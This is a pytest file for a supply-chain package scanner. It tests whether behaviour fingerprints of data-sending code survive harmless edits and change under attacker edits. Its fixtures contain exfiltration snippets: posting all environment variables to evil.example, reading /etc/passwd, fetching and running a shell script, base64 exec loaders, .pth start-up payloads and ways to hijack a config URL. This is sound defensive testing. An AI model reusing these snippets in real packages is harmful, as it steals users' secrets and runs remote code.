"""A fingerprint finds a flow again in another release, and no other flow.

Each case is a release and a later one. What an attacker changes in an old flow must change its
fingerprint; what maintainers change around it must not.
"""

# ruff: noqa: E501  # programs on one line

from collections.abc import Mapping
from pathlib import Path

import pytest

from package_gate.inventory.running.files import RunningFiles
from package_gate.scanners.behaviour.package import PackageBehaviour, Seen

WHEEL = "sample-1.0-py3-none-any.whl"
SEND = "sample/telemetry.py"
FLOW = """\
import os
import requests
from .config import URL
from . import consent

def collect():
    return {name: os.environ[name] for name in os.environ}

def send():
    if not consent.given():
        return
    data = collect()
    requests.post(URL, json=data)

send()
"""
RELEASE = {
    "sample/__init__.py": "from . import telemetry\n",
    "sample/config.py": "HOST = 'https://telemetry.example'\nURL = HOST + '/v1'\n",
    "sample/consent.py": "import os\ndef given():\n    return bool(os.environ.get('OPT_IN'))\n",
    SEND: FLOW,
}


def prints(folder: Path, files: Mapping[str, str | bytes], filename: str = WHEEL) -> set[str]:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    package = PackageBehaviour(folder, RunningFiles(folder, filename), Seen.nothing(1))
    found = [each for name in files if name.endswith((".py", ".pth")) for each in package.of(name)]
    assert found
    return {each.fingerprint for each in found}


def changed(path: str, old: str, new: str) -> dict[str, str]:
    assert old in RELEASE[path]
    return {**RELEASE, path: RELEASE[path].replace(old, new)}


SAME: dict[str, dict[str, str]] = {
    "nothing changes": RELEASE,
    "comments, docstrings and layout": changed(
        SEND, "    data = collect()\n", '    """Say hello."""\n\n    # now\n    data = (collect())\n'
    ),
    "lines above it": changed(SEND, "import os\n", "import os\nimport sys\n\nVERSION = 2\n"),
    "code around it": changed(SEND, "send()\n", "send()\n\ndef other():\n    return collect()\n"),
    "another module": {**RELEASE, "sample/other.py": "x = 1\n"},
    "another constant": changed("sample/config.py", "HOST =", "OTHER = 'x'\nHOST ="),
    "quotes": changed("sample/config.py", "'https://telemetry.example'", '"https://telemetry.example"'),
    "the flow moves to another module": {
        **{path: text for path, text in RELEASE.items() if path != SEND},
        "sample/__init__.py": "from . import reporting\n",
        "sample/reporting.py": FLOW,
    },
}  # fmt: skip

OTHER: dict[str, dict[str, str]] = {
    "a constant in another module": changed("sample/config.py", "telemetry.example", "evil.example"),
    "a constant that the constant is made of": changed("sample/config.py", "'/v1'", "'.evil.example/v1'"),
    "a constant that is given later": changed("sample/config.py", "URL = HOST", "HOST = 'https://evil.example'\nURL = HOST"),
    "a helper that collects": changed(SEND, "for name in os.environ", "for name in [*os.environ, 'X']"),
    "what a helper is given changes": changed(SEND, "data = collect()", "data = collect()\n    data['keys'] = open('/etc/passwd').read()"),
    "a helper changes what it is given": {
        **RELEASE,
        SEND: FLOW.replace("    data = collect()\n", "    data = collect()\n    add(data)\n").replace("def send", "def add(data):\n    data['k'] = open('/etc/passwd').read()\n\ndef send")
    },
    "a condition is gone": changed(SEND, "    if not consent.given():\n        return\n", ""),
    "a condition in another module": changed("sample/consent.py", "bool(os.environ.get('OPT_IN'))", "True"),
    "another argument": changed(SEND, "json=data)", "json=data, verify=False)"),
    "a name of the module is replaced": changed(SEND, "send()\n", "requests = __import__('evil')\nsend()\n"),
    "the constant is imported from elsewhere": changed(SEND, "from .config", "from evil.config"),
}  # fmt: skip


@pytest.mark.parametrize("name", SAME)
def test_what_maintainers_change_around_a_flow_leaves_it_the_same(
    tmp_path: Path, name: str
) -> None:
    assert prints(tmp_path / "new", SAME[name]) == prints(tmp_path / "old", RELEASE)


@pytest.mark.parametrize("name", OTHER)
def test_what_changes_a_flow_makes_it_another(tmp_path: Path, name: str) -> None:
    assert not prints(tmp_path / "new", OTHER[name]) & prints(tmp_path / "old", RELEASE)


ALONE = "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))\n"


def test_a_flow_that_is_moved_to_where_it_runs_sooner_is_another(tmp_path: Path) -> None:
    places = [
        {"sample/__init__.py": "", "sample/script.py": ALONE},
        {"sample/__init__.py": "from . import script", "sample/script.py": ALONE},
        {"sample/__init__.py": ALONE},
        {"sitecustomize.py": ALONE},
    ]

    found = [prints(tmp_path / str(number), files) for number, files in enumerate(places)]

    assert len(set.union(*found)) == sum(map(len, found)) == len(places) + 1


@pytest.mark.parametrize(
    ("calling", "is_the_same"),
    [
        ("from .t import send\nif os.environ.get('OPT_IN'):\n    send()\n", True),
        ("from . import t\nfor each in range(3):\n    t.send()\n", True),
        ("from . import t\n", False),
    ],
)
def test_of_a_function_counts_whether_others_call_it_but_not_how(
    tmp_path: Path, calling: str, *, is_the_same: bool
) -> None:
    code = "import os, requests\ndef send():\n" + "    " + ALONE.splitlines()[1] + "\n"
    called = {"sample/__init__.py": "from .t import send\nsend()\n", "sample/t.py": code}
    other = {"sample/__init__.py": f"import os\n{calling}", "sample/t.py": code}

    old, new = prints(tmp_path / "old", other), prints(tmp_path / "new", called)

    assert (old == new) is is_the_same


def test_what_is_written_to_a_file_and_run_later_belongs_to_the_flow(tmp_path: Path) -> None:
    code = (
        "import subprocess, urllib.request\n"
        "urllib.request.urlretrieve('https://{}.example/a', '/tmp/a')\n"
        "subprocess.Popen(['sh', '/tmp/a'])\n"
    )

    old = prints(tmp_path / "old", {"sample/__init__.py": code.format("a")})
    new = prints(tmp_path / "new", {"sample/__init__.py": code.format("b")})

    assert not old & new


READS = (
    "import base64, os\nhere = os.path.dirname(__file__)\n"
    "exec(base64.b64decode(open(os.path.join(here, {})).read()))\n"
)


@pytest.mark.parametrize("name", ["'data.bin'", "'da' + 'ta.bin'"])
def test_the_content_of_a_file_that_the_flow_reads_counts(tmp_path: Path, name: str) -> None:
    code = READS.format(name)

    old = prints(tmp_path / "old", {"sample/__init__.py": code, "sample/data.bin": b"1"})
    new = prints(tmp_path / "new", {"sample/__init__.py": code, "sample/data.bin": b"2"})

    assert not old & new


def test_data_that_is_run_is_the_same_in_another_release(tmp_path: Path) -> None:
    code = READS.format("'data.bin'")
    files: dict[str, str | bytes] = {"sample/__init__.py": code, "sample/data.bin": b"1"}
    moved = {"sample/a.py": "x = 1\n", "sample/__init__.py": f"from . import a\n\n{code}"}

    old = prints(tmp_path / "old", files)

    assert "" not in old
    assert prints(tmp_path / "new", {**files, **moved}) == old
    elsewhere = code.replace("base64.b64decode(", "bytes.fromhex(")
    assert not prints(tmp_path / "changed", {**files, "sample/__init__.py": elsewhere}) & old


def test_what_replaces_is_told_by_the_statement(tmp_path: Path) -> None:
    code = "import requests\n\ndef own(self):\n    return 1\n\nrequests.Session.merge = own\n"
    old = prints(tmp_path / "old", {"sample/__init__.py": code})

    longer = code.replace("return 1", "return 1 + 1")
    assert prints(tmp_path / "new", {"sample/__init__.py": longer}) == old
    other = code.replace("Session.merge", "Session.send")
    assert not prints(tmp_path / "other", {"sample/__init__.py": other}) & old


@pytest.mark.parametrize(
    "code",
    ["from importlib.metadata import metadata\nexec(metadata('s')['Description'])\n",
     "def f():\n    'x = 1'\nexec(f.__doc__)\n",
     "def f():\n    'x = 1'\nexec('y = 0\\n%(doc)s' % {'doc': f.__doc__})\n"],
)  # fmt: skip
def test_what_hides_in_texts_has_no_precedent(tmp_path: Path, code: str) -> None:
    assert "" in prints(tmp_path, {"sample/__init__.py": code})


def test_a_flow_that_is_too_large_is_told_by_its_function_and_where_it_leads(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("package_gate.scanners.behaviour.fingerprints.MAX_STATEMENTS", 2)

    old = prints(tmp_path / "old", RELEASE)

    assert prints(tmp_path / "same", SAME["code around it"]) == old
    for number, files in enumerate(
        (
            changed("sample/config.py", "telemetry.example", "another.example"),
            changed(SEND, "requests.post(URL", "requests.post('https://a.example' or URL"),
            changed(SEND, "def send", "def start_up").copy()
            | {"sample/__init__.py": "from . import telemetry\ntelemetry.start_up()\n"},
        )
    ):
        assert not prints(tmp_path / f"new{number}", files) & old


def test_a_start_up_file_is_told_by_its_lines(tmp_path: Path) -> None:
    line = "import os, requests; requests.post('https://{}.example', json=dict(os.environ))\n"

    old = prints(tmp_path / "old", {"a.pth": line.format("a")})

    assert prints(tmp_path / "same", {"b.pth": "# other\n" + line.format("a")}) == old
    assert not prints(tmp_path / "new", {"a.pth": line.format("b")}) & old


def test_an_f_string_that_not_every_python_can_write_is_told_by_its_tree(tmp_path: Path) -> None:
    code = (
        "import os, requests\n\ndef send(x):\n"
        "    requests.post(f'https://{}.example/{{x.strip(\"\t\")}}', json=dict(os.environ))\n"
        "send('a')\n"
    )

    old = prints(tmp_path / "old", {"sample/__init__.py": code.format("a")})

    same = "def other(x):\n    return x\n" + code.format("a")
    assert prints(tmp_path / "same", {"sample/__init__.py": same}) == old
    assert not prints(tmp_path / "new", {"sample/__init__.py": code.format("b")}) & old


def test_what_another_module_does_with_what_it_is_given_belongs_to_the_flow(tmp_path: Path) -> None:
    main = "import os\nfrom .b import deliver\ndeliver(dict(os.environ))\n"
    other = (
        "import requests\ndef deliver(data):\n    requests.post('https://{}.example', json=data)\n"
    )

    old = prints(tmp_path / "old", {"sample/__init__.py": main, "sample/b.py": other.format("a")})
    new = prints(tmp_path / "new", {"sample/__init__.py": main, "sample/b.py": other.format("b")})

    assert not old & new


@pytest.mark.parametrize(
    ("given", "value"),
    [
        ("from .d import *", "B"),
        ("from . import d", "vars(d)['B']"),
        ("import importlib", "importlib.import_module('sample.d').B"),
        ("from .d import f", "f.__doc__"),
    ],
)
def test_what_a_flow_takes_by_a_detour_belongs_to_it(
    tmp_path: Path, given: str, value: str
) -> None:
    code = f"import base64\n{given}\nexec(base64.b64decode({value}))\n"
    other = "B = '{0}'\ndef f():\n    '{0}'\n"

    old, new = (
        prints(tmp_path / each, {"sample/__init__.py": code, "sample/d.py": other.format(each)})
        for each in ("aaaa", "bbbb")
    )

    assert old
    assert not (old & new) - {""}, "what has none is never the same"


E = "'https://evil.example'"
WITH_MORE = {
    **RELEASE,
    "sample/__init__.py": "from . import telemetry, extra\n",
    "sample/extra.py": "x = 1\n",
    SEND: FLOW.replace("def send()", "def send(url=URL)").replace("post(URL", "post(url"),
    "sample/config.py": "HOSTS = ['https://telemetry.example']\nURL = HOSTS[0]\nOTHER = 1\n"
    "def use(url):\n    global URL\n    URL = url\ndef describe():\n    return 'x'\n",
    "sample/things.py": "from . import config\nfrom .config import HOSTS as H\n",
}
AFAR = [
    f"from . import config\nconfig.URL = {E}",
    f"import sample.config as c\nc.URL = {E}",
    f"import sample\nsample.config.URL = {E}",
    f"from .things import config as c\nc.URL = {E}",
    f"from .things import *\nconfig.URL = {E}",
    f"from .config import *\nHOSTS[0] = {E}",
    f"from .things import H\nH.append({E})",
    f"from .things import H\nw = H.insert(0, {E})",
    f"from .things import H\nH[:] = [{E}]",
    f"from .things import H\nH += [{E}]",
    f"from .things import H\nh = H\nh.append({E})",
    f"from .things import H\nlist.append(H, {E})",
    f"import operator\nfrom .things import H\noperator.setitem(H, 0, {E})",
    f"from .things import H\nH.__init__([{E}])",
    f"from . import config\nfor config.URL in [{E}]: pass",
    f"from . import config\n[0 for config.URL in [{E}]]",
    f"from . import config\nwith open({E}) as config.URL: pass",
    f"from . import config\nw, (config.URL, *y) = 1, ({E}, 2)",
    f"from . import config\nconfig.URL += {E}",
    f"from . import config\nconfig.URL: str = {E}",
    "from . import config\ndel config.URL",
    f"from . import config\nsetattr(config, 'URL', {E})",
    f"from . import config\nsetattr(config, 'U' + 'RL', {E})",
    f"from . import config\nsetattr(config, input(), {E})",
    f"from . import config\nconfig.__setattr__('URL', {E})",
    f"from . import config\nobject.__setattr__(config, 'URL', {E})",
    f"from . import config\nconfig.__dict__['URL'] = {E}",
    f"from . import config\nconfig.__dict__.update(URL={E})",
    f"from . import config\nconfig.__dict__ |= {{'URL': {E}}}",
    f"from . import config\nvars(config)['URL'] = {E}",
    f"from . import config\nvars(config).update(URL={E})",
    f"from . import config\nconfig.describe.__globals__['URL'] = {E}",
    f"import sys\nsys.modules['sample.config'].URL = {E}",
    f"import sys\nsys.modules['sample.con' + 'fig'].URL = {E}",
    f"import sys\nsys.modules[input()].URL = {E}",
    f"from sys import modules as m\nm['sample.config'].URL = {E}",
    f"import importlib\nimportlib.import_module('sample.config').URL = {E}",
    f"import importlib\nimportlib.import_module(input()).URL = {E}",
    f"from importlib import import_module\nm = import_module(input())\nm.URL = {E}",
    f"def change(m):\n    m.URL = {E}\nfrom . import config\nchange(config)",
    f"from . import config\nc = config\nc.URL = {E}",
    f"from . import config\nfor m in (config, 1):\n    m.URL = {E}",
    "from . import config\nfrom .base import change\nchange(config)",
    f"from .config import use\nuse({E})",
    f"from . import config\nconfig.use(url={E})",
    f"from . import telemetry\ntelemetry.send({E})",
    f"from .telemetry import send as s\ns(url={E})",
    f"from . import telemetry\ntelemetry.send.__defaults__ = ({E},)",
    f"from unittest.mock import patch\npatch('sample.config.URL', {E}).start()",
    "from . import consent\nconsent.given = lambda: True",
    "from . import telemetry\ntelemetry.collect = lambda: open('/etc/passwd').read()",
    "from . import telemetry\ndef f(): return 1\ntelemetry.collect.__code__ = f.__code__",
    "from . import telemetry\ntelemetry.requests = __import__('evil')",
    "import requests.adapters as a\na.HTTPAdapter.send = lambda *_: 1",
    "import requests\nrequests.sessions.Session.proxies = {'https': 'https://evil.example'}",
]  # fmt: skip
NOT_AFAR = [
    "from . import config\nprint(config.URL)",
    "from . import config\nconfig.OTHER = 2",
    "from . import config\nconfig.describe()",
    "from . import telemetry\ntelemetry.send()",
    "from .config import URL\nd = {}\nd[URL] = 1\nd.update(URL=URL)",
    "from .config import URL, HOSTS\nx = [URL, *HOSTS]\nprint(x, len(x))",
    "class A:\n    def __init__(self):\n        self.URL = 1\nA().URL = 2",
    "import requests\nsession = requests.Session()\nsession.trust_env = False\nrequests.get('x')",
    "import os\nos.environ['A'] = '1'\nos.environ.setdefault('B', '2')",
]


@pytest.mark.parametrize("code", AFAR)
def test_what_another_module_changes_in_what_a_flow_uses_makes_it_another(
    tmp_path: Path, code: str
) -> None:
    old = prints(tmp_path / "old", WITH_MORE)
    files = {**WITH_MORE, "sample/extra.py": f"x = 1\n{code}\n"}

    new = {each for each in prints(tmp_path / "new", files) if each}

    assert not old & new
    moved = {**WITH_MORE, "sample/other.py": f"z = 2\n\n{code}\n"}
    detours = ("input()", "*\n", "importlib", "vars(", "__globals__", "__import__")
    if not any(each in code for each in detours):
        assert prints(tmp_path / "same", moved) & new, "it is the same in a later release"


@pytest.mark.parametrize("code", NOT_AFAR)
def test_what_another_module_does_without_changing_a_flow_leaves_it_the_same(
    tmp_path: Path, code: str
) -> None:
    old = prints(tmp_path / "old", WITH_MORE)
    files = {**WITH_MORE, "sample/extra.py": f"x = 1\n{code}\n"}

    assert prints(tmp_path / "new", files) == old
    tests = {
        **WITH_MORE,
        "sample/tests/test_extra.py": f"from .. import config\nconfig.URL = {E}\n",
    }
    assert prints(tmp_path / "tests", tests) == old


WITH_OBJECTS = {
    "sample/__init__.py": "from . import extra, core\n",
    "sample/extra.py": "x = 1\n",
    "sample/core.py": "import os, requests\nfrom . import config\n"
    "requests.post(config.client.url, json=dict(os.environ))\n",
    "sample/config.py": "class Client:\n    url = 'https://telemetry.example'\n"
    "    def use(self, url):\n        self.url = url\n        return self\n"
    "client = Client()\n",
}


@pytest.mark.parametrize(
    "code",
    [
        f"from .config import client\nclient.url = {E}",
        f"from .config import Client\nClient.url = {E}",
        f"from .config import client\nc = client.use({E})",
        f"from .config import client\nvars(client).update(url={E})",
        f"import sys\nsys.modules.get('sample.config').client.url = {E}",
        f"import sys, types\nsys.modules['sample.config'] = types.SimpleNamespace(url={E})",
        f"from . import core\ncore.dict = lambda _: {E}",
        f"import os\nos.environ = {{'x': {E}}}",
    ],
)
def test_what_another_module_changes_in_an_object_that_a_flow_uses_makes_it_another(
    tmp_path: Path, code: str
) -> None:
    old = prints(tmp_path / "old", WITH_OBJECTS)
    files = {**WITH_OBJECTS, "sample/extra.py": f"x = 1\n{code}\n"}

    assert not prints(tmp_path / "new", files) & old


def test_what_a_start_up_file_does_belongs_to_all_flows(tmp_path: Path) -> None:
    files = {**WITH_OBJECTS, "a.pth": "# a\nimport sample.config; sample.config.client.url = 'x'\n"}

    old = prints(tmp_path / "old", WITH_OBJECTS)

    assert not prints(tmp_path / "new", files) & old
    assert prints(tmp_path / "path", {**WITH_OBJECTS, "a.pth": "# a path\n"}) == old
